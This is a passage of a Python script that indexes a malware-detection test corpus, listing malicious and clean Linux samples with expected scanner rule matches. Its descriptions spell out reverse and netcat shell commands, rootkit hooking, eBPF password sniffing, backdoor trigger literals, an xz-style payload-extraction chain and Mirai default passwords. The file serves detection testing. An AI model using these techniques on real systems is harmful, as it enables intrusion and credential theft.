            "elf-executable", "malicious", [R["socketshell"], R["tracks"], R["backdoortracks"]],
            [r for r in PROGRAM_RULES if r not in (R["socketshell"], R["tracks"], R["backdoortracks"])]
            + [R["packetfilter"], R["remotelogin"]],
            props + [P(["-p", ".rodata"], "HISTFILE=/dev/null")],
            "unsetenv(\"HISTFILE\"), setenv(\"HISTSIZE\", \"0\"), putenv(\"HISTFILE=/dev/null\"); "
            "truncate(\"/var/log/wtmp\", 0) and open(\"/var/log/btmp\", O_WRONLY|O_TRUNC); then connects "
            "to 203.0.113.11:8443 (TEST-NET-3), dup2s the socket onto 0, 1, 2 and runs "
            "execl(\"/bin/sh\", \"sh\", \"-i\"). " + link + ".", absent=absent)
        props, absent = static_stripped() if static else ([imports("memfd_create"), imports("fexecve"), imports("connect")], None)
        add("programs/shm-dropper/%s/shm_dropper%s" % (a, suffix), "dev-shm-dropper", a,
            "elf-executable", "suspicious", [R["dropper"], R["tracks"]],
            [r for r in PROGRAM_RULES if r not in (R["dropper"], R["tracks"])] + [R["packetfilter"], R["remotelogin"]],
            props + [P(["-p", ".rodata"], "/dev/shm/")],
            "Connects to 203.0.113.20:8080 (TEST-NET-3) and copies what it reads into a memfd_create "
            "file run with fexecve; else into open(\"/dev/shm/.dbus-cache\", O_CREAT|O_WRONLY|O_TRUNC, "
            "0755), run with execve. " + link + ".", absent=absent)
    add("programs/kthread-masquerade/%s/kthread_name" % a, "kernel-thread-masquerade", a,
        "elf-executable", "malicious", [R["kthread"]], [R["packetshell"], R["socketshell"]] + TRACE_RULES,
        [imports("prctl"), imports("strncpy"), P(["-p", ".rodata"], "kworker/0:2")],
        "prctl(PR_SET_NAME, \"[kworker/0:2]\") and strncpy of the same literal over argv[0], then "
        "sleeps forever. Dynamic (PIE).")
    add("programs/dhcp-like-client/%s/dhcp_client" % a, "packet-filter-negative", a,
        "elf-executable", "clean", [], PROGRAM_RULES,
        [imports("socket"), imports("setsockopt"), imports("execve")],
        "Hard negative: socket(AF_PACKET, SOCK_DGRAM) with a classic BPF filter compiled by tcpdump "
        "('udp and dst port 68', 16 instructions in .rodata) attached with SO_ATTACH_FILTER, as "
        "dhclient does; on a reply it runs the configuration script its argument or DHCP_SCRIPT "
        "names with execve. No shell literal. Matches programs/packet-filter-program (info).")
    add("programs/telnetd-like/%s/telnetd_like" % a, "remote-login-negative", a,
        "elf-executable", "clean", [], PROGRAM_RULES + [R["packetfilter"]],
        [imports("forkpty"), imports("accept"), imports("execl")],
        "Hard negative: accepts on TCP 23, dup2s the connection onto 0, 1, 2, and runs "
        "execl(\"/bin/login\", \"login\", \"-p\") on a forkpty pseudo-terminal. "
        "Matches programs/remote-login-service (info).")
    add("programs/pty-multiplexer/%s/pty_mux" % a, "pty-multiplexer-negative", a,
        "elf-executable", "clean", [], PROGRAM_RULES + [R["packetfilter"]],
        [imports("posix_openpt"), imports("accept"), imports("execl")],
        "Hard negative: a screen/tmux-like server on a Unix socket; for each client it opens a "
        "pseudo-terminal with posix_openpt, dup2s the slave onto 0, 1, 2 and runs $SHELL, else the "
        "literal /bin/sh. Matches programs/remote-login-service (info).")
    add("programs/utmp-writer/%s/utmp_writer" % a, "login-records-negative", a,
        "elf-executable", "clean", [], PROGRAM_RULES + [R["packetfilter"], R["remotelogin"]],
        [imports("pututline"), imports("updwtmp"), P(["-p", ".rodata"], "/var/log/lastlog")],
        "Hard negative: writes the login records as login does: pututline for utmp, "
        "updwtmp(\"/var/log/wtmp\") and open(\"/var/log/lastlog\", O_RDWR|O_CREAT, 0664), seek "
        "and write of the user's record.")
    add("programs/history-shell/%s/history_shell" % a, "history-file-negative", a,
        "elf-executable", "clean", [], PROGRAM_RULES + [R["packetfilter"], R["remotelogin"]],
        [imports("getenv"), imports("setenv"), P(["-p", ".rodata"], "HISTFILE")],
        "Hard negative: a small shell keeping a history file: getenv(\"HISTFILE\"), else "
        "setenv(\"HISTFILE\", \"$HOME/.mini_history\") and setenv(\"HISTSIZE\", \"500\"); appends "
        "every command and runs it with execl(\"/bin/sh\", \"sh\", \"-c\", line).")
    add("programs/tmp-installer/%s/tmp_installer" % a, "temporary-file-negative", a,
        "elf-executable", "clean", [], PROGRAM_RULES + [R["packetfilter"], R["remotelogin"]],
        [imports("mkstemp"), imports("readlink"), P(["-p", ".rodata"], "/tmp/setup")],
        "Hard negative: an installer: readlink(\"/proc/self/exe\") for its own directory, a lock "
        "file open(\"/tmp/setup.lock\", O_CREAT|O_EXCL|O_WRONLY, 0644), a download (connect to "
        "192.0.2.5, TEST-NET-1) into mkstemp(\"/tmp/setup-XXXXXX\"), execl(\"/bin/tar\", ...) on it, "
        "then unlink of both files.")

# ---- access daemons ------------------------------------------------------------
# Built by programs/build-access-daemons.sh: dynamic (PIE), four variants per architecture.

ACCESS_DAEMON_ARCHS = ["x86_64", "aarch64", "armhf", "mipsel"]
ACCESS_DAEMON_VARIANTS = {
    "gcc-O2": "gcc -O2, symbols kept",
    "gcc-O0": "gcc -O0 -fno-omit-frame-pointer -fstack-protector-all",
    "gcc-O2-stripped": "gcc -O2, stripped",
    "clang-O2-stripped": "clang-14 -O2, stripped",
}
ACCESS_DAEMON_RULES = [R["masterpw"], R["magiccmd"]]
ACCESS_DAEMONS = [
    ("telnet-master-password", "telnetd_master", "daemon-master-password", "malicious", [R["masterpw"]],
     [imports("recv"), imports("strcmp"), imports("crypt"), imports("execl")],
     "A telnet-like daemon on TCP 2323: prompts 'login: ' and 'Password: ', reads each line a byte at a "
     "time with recv (a read_line helper), and a password equal to the literal "
     "Backsight-corpus-telnet-master-2026 (strcmp in authenticate) gets execl(\"/bin/sh\", \"sh\", \"-i\") "
     "on the connection before the crypt(3) check against getspnam's hash."),
    ("telnet-shadow-login", "telnetd_shadow", "daemon-login-negative", "clean", [],
     [imports("recv"), imports("strcmp"), imports("crypt"), imports("execl")],
     "Hard negative: the same telnet-like daemon without the master password: the password is checked "
     "only with crypt(3) against getspnam's hash; the login name is compared with the literals \"exit\" "
     "and \"root\" (refused unless started with -r), and a good password gets the account's shell from "
     "getpwnam after setgid/setuid to the account."),
    ("http-magic-header", "httpd_magic", "network-magic-string-command", "malicious", [R["magiccmd"]],
     [imports("recv"), imports("strstr"), imports("popen")],
     "An HTTP daemon on TCP 8080: a request whose User-Agent header (copied out with strncpy) equals the "
     "literal bsight-corpus-agent-7f3a skips the Basic-credential check and runs the URL-decoded "
     "?cmd= value with popen, sending back its output."),
    ("http-header-parser", "httpd_plain", "http-parser-negative", "clean", [],
     [imports("recv"), imports("strncasecmp"), imports("execv")],
     "Hard negative: an HTTP daemon that parses the request line with sscanf and strcmp (GET, POST, "
     "HEAD) and the headers with strncasecmp (Content-Length, Connection, Authorization), checks a "
     "Basic credential read from a file, serves files, and runs /cgi-bin/ programs with execv on a "
     "path built from the URL. No literal lets a request in or runs a shell."),
    ("udp-magic-command", "udp_magic", "network-magic-string-command", "malicious", [R["magiccmd"]],
     [imports("recvfrom"), imports("system"), imports("popen")],
     "A factory-test style backdoor on UDP 9731: a datagram starting with the literal "
     "bsight-corpus-mfg (strncmp, which gcc -O2 inlines on x86-64 and AArch64) has the rest run with system(), or with popen and the output sent "
     "back when the next byte is 'o'."),
]
for sample, name, technique, verdict, matched, props, note in ACCESS_DAEMONS:
    for a in ACCESS_DAEMON_ARCHS:
        for variant, flags in ACCESS_DAEMON_VARIANTS.items():
            add("programs/%s/%s/%s/%s" % (sample, a, variant, name), technique, a, "elf-executable", verdict,
                # The master-password daemon runs /bin/sh on the accepted connection: a bind shell too
                # (programs/bind-or-reverse-shell), which the index leaves to that rule's own samples.
                matched, [r for r in ACCESS_DAEMON_RULES + PROGRAM_RULES
                          if r not in matched and not (sample == "telnet-master-password" and r == R["socketshell"])], props,
                note + " Dynamic (PIE), " + flags + ".")

# ---- eBPF ----------------------------------------------------------------------

BPF_OBJECT = [P(["-h"], "Machine:\\s+Linux BPF")]
add("bpf/getdents-hide/getdents-hide.bpf.o", "bpf-user-memory-write", "bpf", "elf-relocatable", "malicious",
    [R["bpfwrite"]], [R["bpfauth"]], BPF_OBJECT + [P(["-S", "-W"], "tracepoint/syscalls/sys_exit_getdents64")],
    "eBPF process hiding (clang -target bpfel): on getdents64 entry the buffer address is kept in a hash "
    "map per thread; on exit the records are walked (bounded loop, bpf_probe_read_user) and the one named "
    "like the hidden process is covered by growing the previous d_reclen with bpf_probe_write_user (call 36).")
add("bpf/getdents-hide/getdents-hide.bpfeb.o", "bpf-user-memory-write", "bpf", "elf-relocatable", "malicious",
    [R["bpfwrite"]], [], BPF_OBJECT + [P(["-h"], "big endian")],
    "The same program for a big-endian host (clang -target bpfeb): the call's registers and immediate in "
    "big-endian order.")
add("bpf/exec-trace/exec-trace.bpf.o", "bpf-hard-negative-tracer", "bpf", "elf-relocatable", "clean",
    [], [R["bpfwrite"], R["bpfauth"]], BPF_OBJECT + [P(["-S", "-W"], "tracepoint/syscalls/sys_enter_execve")],
    "Hard negative: an execsnoop-style tracer on execve entry: bpf_get_current_comm, "
    "bpf_probe_read_user_str of the path, bpf_ringbuf_output; it reads user memory, never writes it.")
add("bpf/pam-probe/pam-probe.bpf.o", "bpf-password-probe", "bpf", "elf-relocatable", "malicious",
    [R["bpfauth"]], [R["bpfwrite"]], BPF_OBJECT + [P(["-S", "-W"], "uretprobe/pam_get_authtok")],
    "eBPF password sniffing: a uprobe on pam_get_authtok keeps the authtok out-pointer (third argument) per "
    "thread; the uretprobe reads the password through it (bpf_probe_read_user, _str) with the caller's comm "
    "and sends them through a ring buffer. Reads only: no bpf_probe_write_user.")
add("bpf/alloc-profile/alloc-profile.bpf.o", "bpf-hard-negative-profiler", "bpf", "elf-relocatable", "clean",
    [], [R["bpfauth"], R["bpfwrite"]], BPF_OBJECT + [P(["-S", "-W"], "\\buprobe\\b")],
    "Hard negative: a memleak-style profiler, two probes in sections named plain \"uprobe\" (attached to malloc "
    "and free by the loader) counting bytes per process in a hash map.")
for a in ("x86_64", "aarch64"):
    add("bpf/pam-probe/%s/pam-probe-loader" % a, "bpf-password-probe", a, "elf-executable", "malicious",
        [R["bpfauth"]], [R["bpfwrite"]], [P(["-p", ".rodata"], "pam_get_authtok")],
        "The sniffer's loader: the object verbatim in .rodata, and libpam's path and pam_get_authtok as the "
        "attach target, built with gcc for %s (PIE)." % a)
    add("bpf/alloc-profile/%s/alloc-profile-loader" % a, "bpf-hard-negative-profiler", a, "elf-executable", "clean",
        [], [R["bpfauth"], R["bpfwrite"]], [P(["-p", ".rodata"], "count_malloc")],
        "Hard negative: the profiler's loader, naming libc.so.6 and malloc as where the probes attach, built "
        "with gcc for %s (PIE)." % a)
    add("bpf/getdents-hide/%s/getdents-hide-loader" % a, "bpf-user-memory-write", a, "elf-executable", "malicious",
        [R["bpfwrite"]], [R["bpfauth"]], [P(["-p", ".rodata"], "sys_exit_getdents64")],
        "A loader carrying bpf/getdents-hide/getdents-hide.bpf.o verbatim in .rodata (the array libbpf "
        "skeletons embed), built with gcc for %s (PIE)." % a)
    add("bpf/exec-trace/%s/exec-trace-loader" % a, "bpf-hard-negative-tracer", a, "elf-executable", "clean",
        [], [R["bpfwrite"], R["bpfauth"]], [P(["-p", ".rodata"], "sys_enter_execve")],
        "Hard negative: the tracer's loader, carrying bpf/exec-trace/exec-trace.bpf.o verbatim, built with "
        "gcc for %s (PIE)." % a)

# ---- kernel --------------------------------------------------------------------

add("kernel/syscall-hook/x86_64/rootkit.ko", "kernel-syscall-hook", "x86_64",
    "elf-relocatable", "malicious", [R["kernel"], R["kinline"], R["kcred"]], [R["khide"], R["kftrace"]],
    [P(["-S", "-W"], "\\.modinfo"), P(["-S", "-W"], "\\.gnu\\.linkonce\\.this_module"),
     P(["-s", "-W"], "UND sys_call_table"), P(["-s", "-W"], "UND kallsyms_lookup_name"),
     P(["-s", "-W"], "UND commit_creds"), P(["-s", "-W"], "UND prepare_kernel_cred"),
     P(["-p", ".modinfo"], "license=GPL"), P(["-p", ".modinfo"], "name=rootkit")],
    "Kernel-module-shaped relocatable (no kernel headers): init_module looks up sys_call_table "
    "with kallsyms_lookup_name (string in .rodata.str), clears CR0.WP with mov %reg,%cr0 "
    "(bytes 0f 22 in set_entry, inlined into init_module/cleanup_module), swaps the kill entry; "
    "hooked_kill calls commit_creds(prepare_kernel_cred(0)) for signal 64. x86-64 only: CR0 "
    "is an x86 register.")

MODULE = [P(["-S", "-W"], "\\.modinfo"), P(["-S", "-W"], "\\.gnu\\.linkonce\\.this_module")]
KERNEL_SAMPLES = [
    ("module-hide", "kernel-module-self-hiding", "malicious", ["khide", "kprobe"],
     [P(["-s", "-W"], "UND __list_del_entry_valid"), P(["-s", "-W"], "UND register_kprobe"),
      P(["-r", "-W"], "__this_module|\\.gnu\\.linkonce\\.this_module")],
     "A static kprobe on kallsyms_lookup_name (R_*_64/ABS64 in .data to the string), then "
     "list_del(&THIS_MODULE->list) and kobject_del(&THIS_MODULE->mkobj.kobj) in init_module. "
     "x86-64 folds the offset into the relocation (__this_module+8); AArch64 keeps __this_module "
     "in x19 and reaches the node with add x0, x19, #8 / ldp / stp."),
    ("inline-hook", "kernel-inline-hook-engine", "malicious", ["kinline", "kprobe", "kcred"],
     [P(["-s", "-W"], "UND vmap"), P(["-s", "-W"], "UND stop_machine")],
     "A hook table naming filldir64, tcp4_seq_show and the kill syscall by string; the symbol "
     "lookup found with a kprobe filled in on the stack; a jmp rel32 (x86-64) or b (AArch64) "
     "written through a vmap alias of the target page inside stop_machine; the kill hook calls "
     "commit_creds(prepare_kernel_cred(NULL)) on a magic signal."),
    ("ftrace-hook", "kernel-ftrace-ipmodify-hook", "suspicious", ["kftrace"],
     [P(["-s", "-W"], "UND register_ftrace_function"), P(["-s", "-W"], "UND ftrace_set_filter_ip")],
     "ftrace_ops filled in at run time with SAVE_REGS|RECURSION|IPMODIFY (0x1014, an immediate "
     "stored in init_module); the callback rewrites the saved ip (pt_regs ip / pc); the target "
     "address comes from a kprobe registered on the getdents64 syscall name."),
    ("ftrace-hook-static", "kernel-ftrace-ipmodify-hook", "malicious", ["kftrace", "kcred"],
     [P(["-s", "-W"], "UND kallsyms_lookup_name"), P(["-s", "-W"], "UND commit_creds")],
     "A static ftrace_ops in .data (func relocation at +0, flags SAVE_REGS|IPMODIFY = 0x1004 at "
     "+16), kallsyms_lookup_name imported as on kernels before 5.7, a replacement that calls "
     "commit_creds(prepare_kernel_cred(NULL)) on a magic argument."),
    ("ftrace-hook-legacy", "kernel-ftrace-ipmodify-hook", "malicious", ["kftrace", "kcred"],
     [P(["-s", "-W"], "UND register_ftrace_function"), P(["-p", ".modinfo"], "vermagic=4\\.9")],
     "ftrace hooking in the flag numbering of kernels 3.19-4.13 (SAVE_REGS BIT(3), RECURSION_SAFE "
     "BIT(5), IPMODIFY BIT(13): 0x2028 stored in init_module); the replacement of the kill "
     "syscall calls commit_creds(prepare_kernel_cred(NULL)) on a magic signal."),
    ("plain-driver", "kernel-hard-negative-driver", "clean", [],
     [P(["-S", "-W"], "__versions"), P(["-p", ".modinfo"], "intree=Y")],
     "Hard negative: a character driver (file_operations owned by THIS_MODULE), a sysfs "
     "attribute table, a kobject under &THIS_MODULE->mkobj.kobj, a vmap'ed ring buffer, and "
     "__versions CRC records."),
    ("kprobe-tracer", "kernel-hard-negative-kprobe", "clean", [],
     [P(["-s", "-W"], "UND register_kprobe")],
     "Hard negative: a kprobe with a pre_handler on a function named by a module parameter."),
    ("ftrace-tracer", "kernel-hard-negative-ftrace", "clean", [],
     [P(["-s", "-W"], "UND register_ftrace_function")],
     "Hard negative: an ftrace_ops with FTRACE_OPS_FL_RECURSION only (0x10), counting calls."),
    ("packet-shell", "kernel-triggered-shell", "malicious", ["kpacket"],
     [P(["-s", "-W"], "UND nf_register_net_hook"), P(["-s", "-W"], "UND call_usermodehelper")],
     "A netfilter hook on IPv4 pre-routing (a static nf_hook_ops) copies the bytes after a token "
     "with skb_copy_bits and queues a work item that runs them with call_usermodehelper(\"/bin/sh\", "
     "{\"/bin/sh\", \"-c\", command}); the packet is dropped."),
    ("packet-shell-raw", "kernel-triggered-shell", "malicious", ["kpacket"],
     [P(["-s", "-W"], "UND dev_add_pack"), P(["-s", "-W"], "UND call_usermodehelper_exec")],
     "A packet_type handler for every protocol (dev_add_pack) runs the rest of a frame that "
     "starts with a token through /bin/bash -c: call_usermodehelper_setup (GFP_ATOMIC) and "
     "call_usermodehelper_exec (UMH_NO_WAIT); the argv table is static data."),
    ("kprobe-shell", "kernel-triggered-shell", "malicious", ["kpacket"],
     [P(["-s", "-W"], "UND register_kprobe"), P(["-s", "-W"], "UND call_usermodehelper")],
     "A static kprobe on the kill system call's wrapper (__x64_sys_kill / __arm64_sys_kill) whose "
     "pre_handler reads the signal from the caller's saved registers; signal 63 queues a work item that "
     "runs call_usermodehelper(\"/bin/bash\", {\"/bin/bash\", \"-c\", \"bash -i >& /dev/tcp/... 0>&1\"})."),
    ("packet-helper", "kernel-hard-negative-packet-helper", "clean", [],
     [P(["-s", "-W"], "UND nf_register_net_hook"), P(["-s", "-W"], "UND call_usermodehelper")],
     "Hard negative: a netfilter hook that counts packets and, past a threshold, runs a fixed "
     "helper program (/usr/sbin/corpus-flood-report, no shell, no packet bytes) as bridge.ko "
     "runs /sbin/bridge-stp."),
    ("event-shell", "kernel-hard-negative-event-shell", "clean", [],
     [P(["-s", "-W"], "UND register_netdevice_notifier"), P(["-s", "-W"], "UND call_usermodehelper")],
     "Hard negative: a network-device notifier (links going up or down, no packets) runs fixed "
     "scripts through /bin/sh -c, as vendor drivers start hotplug scripts."),
    ("livepatch-sample", "kernel-livepatch", "clean", [],
     [P(["-s", "-W"], "UND klp_enable_patch"), P(["-p", ".modinfo"], "livepatch=Y")],
     "Livepatch-shaped module: klp_func/klp_object/klp_patch tables and klp_enable_patch only; "
     "no syscall table, CR0, kallsyms or creds."),
]
for name, technique, verdict, rules, props, note in KERNEL_SAMPLES:
    for a in ("x86_64", "aarch64"):
        matched = [R[k] for k in rules]
        add("kernel/%s/%s/%s.ko" % (name, a, name), technique, a, "elf-relocatable", verdict,
            matched, [r for r in KERNEL_RULES if r not in matched], MODULE + props, note)

# Module trees (kernel/make-module-trees.py): the corpus's own x86_64 modules laid out as
# lib/modules/RELEASE/, once signed and once not.
MT = "kernel/module-tree/%s/lib/modules/6.1.0-corpus/"
for kind in ("signed", "unsigned"):
    for index in range(1, 5):
        add(MT % kind + "kernel/drivers/misc/plain-%d.ko" % index, "kernel-module-tree", "x86_64",
            "elf-relocatable", "clean", [], KERNEL_RULES,
            [P(["-S", "-W"], "\\.modinfo")],
            "kernel/plain-driver/x86_64/plain-driver.ko (intree=Y)" +
            (" with a placeholder signature block appended as sign-file lays it out "
             "([signature][struct module_signature][~Module signature appended~])." if kind == "signed" else ", unsigned."))
    add(MT % kind + "extra/ftrace-tracer.ko", "kernel-module-tree", "x86_64", "elf-relocatable", "clean",
        [R["kunsigned"]] if kind == "signed" else [],
        [r for r in KERNEL_RULES if kind != "signed" or r != R["kunsigned"]],
        [P(["-S", "-W"], "\\.modinfo")],
        ("The unsigned, out-of-tree kernel/ftrace-tracer module in a tree whose other modules are signed: "
         "kernel/unsigned-module-in-signed-tree (low), verdict still clean." if kind == "signed" else
         "The same module in a tree where nothing is signed (as most firmware ships): no finding."))

# ---- blobs ---------------------------------------------------------------------

B = "blobs/tests/files/"
add(B + "bad-1-corrupt_header.xz", "test-blob-corrupt-name", "any", "blob", "suspicious",
    [R["corruptname"]], [R["swap"]], [],
    "Named as a corrupt test file but is a valid xz stream (CRC64) that decodes cleanly.")
add(B + "bad-2-corrupt_stream.xz", "test-blob-genuinely-corrupt", "any", "blob", "clean",
    [], [R["corruptname"], R["swap"]], [],
    "Genuinely corrupt: 8 bytes in the middle of the LZMA2 data overwritten with values outside "
    "the swap set; neither the raw file nor the tab/space,-/_ swapped file decodes.")
add(B + "bad-3-corrupt_lzma2.xz", "test-blob-swap-stream", "any", "blob", "malicious",
    [R["swap"]], [],
    [],
    "Fails to decode as-is; after tr \"\\t \\-_\" \" \\t_\\-\" over the raw file it is three "
    "valid xz streams (CRC64) decoding to an inert shell script framed by ####Hello#### / "
    "####World#### (uses export i=..., eval, head -c, tail -c, tr, xz -dc, xz -F raw --lzma1). "
    "Swapped bytes occur both in xz/LZMA2 framing (block header, chunk header, check, index, "
    "footer) and in compressed data (see make-blobs.py output).")
add(B + "good-large_compressed.lzma", "test-blob-filler-entropy", "any", "blob", "malicious",
    [R["filler"], R["beside"]], [], [],
    ".lzma (alone format) decoding to 8 x [1024 bytes of one letter (A..H) + 2048 high-entropy "
    "bytes]. The high-entropy parts concatenated, tail -c +16236, tr "
    "\"\\140-\\377\\40-\\77\\0-\\37\\100-\\137\" \"\\0-\\377\", then xz -F raw --lzma1 -dc give an "
    "inert stage-2 script (echo only). Beside bad-3-corrupt_lzma2.xz, which the swap repairs.")
add("blobs/filler-alone/good-large_compressed.lzma", "test-blob-filler-entropy", "any", "blob", "suspicious",
    [R["filler"]], [R["beside"], R["swap"]], [],
    "The same filler/noise blob as blobs/tests/files/good-large_compressed.lzma, in a directory whose "
    "only other file is an ordinary compressed test file: the layout alone (medium), no sibling repaired.")
add("blobs/filler-alone/good-2-compressed.xz", "test-blob-benign", "any", "blob", "clean",
    [], BLOB_RULES, [],
    "An ordinary compressed text test file beside the lone filler blob.")
add(B + "good-embedded.bin", "embedded-compressed-elf", "any", "blob", "suspicious",
    [R["embedded"]], [], [],
    "509 bytes of junk, then an xz stream (CRC64) whose content is "
    "ifunc/xz-object/x86_64/liblzma_la-crc64-fast.o (ELF64 REL, x86-64), then 67 bytes of junk.")
add(B + "good-1-compressed.xz", "test-blob-benign", "any", "blob", "clean",
    [], BLOB_RULES, [],
    "An ordinary compressed text test file (120 lines of generated words).")
add("blobs/m4/build-to-host.m4", "build-script-blob-extraction", "any", "text", "malicious",
    [R["buildscript"]], [], [],
    "Autoconf macro that greps tests/files for the ####Hello#### marker, pipes the blob "
    "through tr \"\\t \\-_\" \" \\t_\\-\" and xz -d, and evals the result into $SHELL from "
    "AC_CONFIG_COMMANDS. Inert (the chain ends in echo), never run.")
add("blobs/m4/bs-check-flag.m4", "build-script-benign", "any", "text", "clean",
    [], [R["buildscript"]], [],
    "Ordinary compiler-flag check macro; no test files, no decoding, no eval.")
add("blobs/scripts/unpack-test-object.sh", "build-script-blob-extraction", "any", "text", "malicious",
    [R["buildscript"]], [], [],
    "Second-stage shape: evals a config.status line, throws byte counts away with "
    "head -c N > /dev/null to cut a payload out of a test file, runs it through an RC4-like "
    "cipher written in awk (state table modulo 256 with swaps) and xz -dc straight into an "
    "object file. Inert: the test file does not exist and nothing runs it.")
add("blobs/scripts/unpack-firmware-tree.sh", "build-script-benign", "any", "text", "clean",
    [], [R["buildscript"]], [],
    "Hard negative: a packaging script that evals a setting, decompresses a tarball, skips a "
    "header with head -c into a file and sums bytes modulo 256 in awk (no swaps, no object file).")

# ---- access ----------------------------------------------------------------------
# Written by access/make-trees.py (text only; hashes from crypt(3) with fixed salts).

SCHEMES = {"des": "DES", "md5": "MD5 ($1$)", "sha256": "SHA-256 ($5$, rounds=5000)",
           "sha512": "SHA-512 ($6$)", "bcrypt": "bcrypt ($2b$, cost 5)", "yescrypt": "yescrypt ($y$j9T$)"}
for scheme, label in sorted(SCHEMES.items()):
    add("access/default-password/%s/etc/shadow" % scheme, "access-default-password", "any", "text",
        "malicious", [R["defaultcred"]], [R["emptypw"]], [],
        "root's password is xc3511 (the Mirai list's first entry) as a %s hash." % label)
    add("access/default-password/%s/etc/passwd" % scheme, "access-benign", "any", "text", "clean",
        [], ACCOUNT_RULES, [], "root, daemon, nobody; passwords shadowed.")
add("access/default-password/admin-account/etc/shadow", "access-default-password", "any", "text",
    "malicious", [R["defaultcred"]], [R["emptypw"]], [],
    "A vendor account admin (UID 1000, /bin/sh) with password admin (SHA-512); root is locked.")
add("access/default-password/admin-account/etc/passwd", "access-benign", "any", "text", "clean",
    [], ACCOUNT_RULES, [], "root, daemon, nobody, admin; passwords shadowed.")
add("access/busybox-default-root/etc/passwd", "access-default-password", "any", "text", "malicious",
    [R["defaultcred"]], [R["uid0"], R["emptypw"]], [],
    "Busybox-style tree without a shadow file: root's MD5 hash of vizxv is in etc/passwd.")
add("access/busybox-empty-root/etc/passwd", "access-empty-password", "any", "text", "malicious",
    [R["emptypw"]], [R["uid0"], R["defaultcred"]], [],
    "Busybox-style: root::0:0 with /bin/ash; ftp also has an empty password but /bin/false.")
add("access/busybox-linked-shadow/etc/passwd", "access-default-password", "any", "text", "malicious",
    [R["defaultcred"]], [R["uid0"], R["emptypw"]], [],
    "etc/shadow is a link to ../var/shadow, where root's SHA-512 hash is hi3518 (Mirai): the "
    "passwd check follows the link inside the tree and reports var/shadow line 1.")
add("access/busybox-linked-shadow/etc/shadow", "access-default-password", "any", "symlink", "clean",
    [], [], [], "Relative symlink -> ../var/shadow (in a tree scan links are reported, not read; "
    "named as the scan root, the file it leads to is read as etc/shadow).")
add("access/busybox-linked-shadow/var/shadow", "access-default-password", "any", "text", "clean",
    [], ACCOUNT_RULES, [], "The shadow file the link leads to; not at etc/, so not an account file "
    "itself (its line is reported on etc/passwd).")
add("access/extra-uid-zero/etc/passwd", "access-extra-uid-zero", "any", "text", "malicious",
    [R["uid0"]], [R["emptypw"], R["defaultcred"]], [], "sysmaint:x:0:0 beside root.")
add("access/extra-uid-zero/etc/shadow", "access-benign", "any", "text", "clean",
    [], ACCOUNT_RULES, [], "root '*', sysmaint '!': both locked.")
add("access/strong-password/etc/shadow", "access-benign", "any", "text", "clean",
    [], ACCOUNT_RULES, [], "Hard negative: root has a strong yescrypt password.")
add("access/strong-password/etc/passwd", "access-benign", "any", "text", "clean",
    [], ACCOUNT_RULES, [], "root, daemon, nobody.")
for variant, text in (("star", "root:*"), ("bang", "root:!<SHA-512 of xc3511> (locked with passwd -l)")):
    add("access/locked-root/%s/etc/shadow" % variant, "access-benign", "any", "text", "clean",
        [], ACCOUNT_RULES, [], "Hard negative: locked root, %s." % text)
    add("access/locked-root/%s/etc/passwd" % variant, "access-benign", "any", "text", "clean",
        [], ACCOUNT_RULES, [], "root, daemon, nobody.")

GROUP_RULES = [R["groupweak"], R["grouplogin"]]
add("access/admin-group-default/etc/group", "access-admin-group", "any", "text", "malicious",
    [R["groupweak"]], [R["grouplogin"]] + ACCOUNT_RULES, [],
    "sudo:x:27:admin (line 6): the vendor account admin (UID 1000, /bin/sh) is in sudo, and its "
    "password in etc/shadow is admin (SHA-512), a default credential.")
add("access/admin-group-default/etc/shadow", "access-default-password", "any", "text", "malicious",
    [R["defaultcred"]], [R["emptypw"]] + GROUP_RULES, [], "admin's password is admin (SHA-512); root is locked.")
add("access/admin-group-default/etc/passwd", "access-benign", "any", "text", "clean",
    [], ACCOUNT_RULES + GROUP_RULES, [], "root, daemon, nobody, admin; passwords shadowed.")
add("access/root-group-empty/etc/group", "access-admin-group", "any", "text", "malicious",
    [R["groupweak"]], [R["grouplogin"]] + ACCOUNT_RULES, [],
    "Busybox-style: maint (UID 1001, /bin/ash) has GID 0 (root, line 1) as its primary group in "
    "etc/passwd and an empty password there.")
add("access/root-group-empty/etc/passwd", "access-empty-password", "any", "text", "malicious",
    [R["emptypw"]], [R["uid0"], R["defaultcred"]] + GROUP_RULES, [],
    "maint::1001:0 with /bin/ash: an empty password; root has a strong MD5 password.")
add("access/admin-group-locked/etc/group", "access-benign", "any", "text", "clean",
    [], GROUP_RULES + ACCOUNT_RULES, [],
    "Hard negative: admin is in wheel but its password is locked ('!' before the hash of admin).")
add("access/admin-group-locked/etc/shadow", "access-benign", "any", "text", "clean",
    [], ACCOUNT_RULES + GROUP_RULES, [], "root '*', admin '!<SHA-512 of admin>': both locked.")
add("access/admin-group-locked/etc/passwd", "access-benign", "any", "text", "clean",
    [], ACCOUNT_RULES + GROUP_RULES, [], "root, daemon, nobody, admin; passwords shadowed.")
add("access/admin-group-strong/etc/group", "access-admin-group", "any", "text", "clean",
    [R["grouplogin"]], [R["groupweak"]] + ACCOUNT_RULES, [],
    "Hard negative for the weak-password rule: ops (UID 1000, /bin/bash) is in sudo with a strong "
    "yescrypt password: access/administrative-group-login-account (info) only.")
add("access/admin-group-strong/etc/shadow", "access-benign", "any", "text", "clean",
    [], ACCOUNT_RULES + GROUP_RULES, [], "root '*', ops with a strong yescrypt password.")
add("access/admin-group-strong/etc/passwd", "access-benign", "any", "text", "clean",
    [], ACCOUNT_RULES + GROUP_RULES, [], "root, daemon, nobody, ops; passwords shadowed.")

add("access/telnet-shell/etc/inittab", "access-network-shell", "any", "text", "malicious",
    [R["netshell"]], [R["rootlogin"], R["rootweak"], R["emptyremote"]], [],
    "::respawn:/usr/sbin/telnetd -F -p 23 -l /bin/sh (line 2) beside a serial getty.")
add("access/serial-getty/etc/inittab", "access-benign", "any", "text", "clean",
    [], REMOTE_RULES + [R["rootlogin"]], [], "Hard negative: getty on ttyS0 and an askfirst shell on the console.")
add("access/netcat-shell/etc/init.d/S95debug", "access-network-shell", "any", "text", "malicious",
    [R["netshell"]], [R["emptyremote"]], [], "busybox nc -ll -p 2323 -e /bin/sh (line 5).")
add("access/netcat-shell/etc/init.d/rcS", "access-network-shell", "any", "text", "malicious",
    [R["netshell"]], [R["emptyremote"]], [],
    "A fifo pipeline: cat /tmp/f | /bin/sh -i | nc -l -p 4444 > /tmp/f (line 4).")
add("access/netcat-healthcheck/etc/init.d/S99health", "access-benign", "any", "text", "clean",
    [], REMOTE_RULES + [R["rootlogin"]], [], "Hard negative: nc as a client (-w 2 127.0.0.1 8080) with no shell.")
